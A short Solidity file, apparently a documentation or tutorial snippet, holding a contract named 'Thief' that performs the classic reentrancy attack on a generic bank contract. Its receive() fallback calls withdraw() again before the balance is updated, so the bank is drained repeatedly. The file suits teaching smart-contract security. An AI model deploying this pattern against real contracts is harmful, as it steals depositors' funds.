// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

// #region attack
contract Thief {
    IBank private immutable BANK;

    constructor(IBank bank) {
        BANK = bank;
    }

    function attack() external payable {
        BANK.deposit{value: msg.value}();
        BANK.withdraw();
    }

    receive() external payable {
        // Called in the middle of withdraw(): our balance is still on the books.
        if (address(BANK).balance >= msg.value) BANK.withdraw();
    }
}
// #endregion attack
